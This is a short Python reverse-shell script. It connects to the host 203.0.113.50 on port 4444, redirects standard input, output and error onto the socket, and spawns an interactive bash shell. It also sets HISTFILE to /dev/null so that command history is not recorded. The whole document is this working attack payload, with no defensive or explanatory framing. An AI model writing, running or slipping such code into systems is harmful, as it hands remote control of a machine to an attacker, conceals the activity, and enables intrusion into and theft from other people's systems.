# Connects back to 203.0.113.50:4444 and attaches an interactive /bin/bash to the socket (reverse shell).
import os
import pty
import socket

HOST = "203.0.113.50"
PORT = 4444

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect((HOST, PORT))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.environ["HISTFILE"] = "/dev/null"
pty.spawn("/bin/bash")
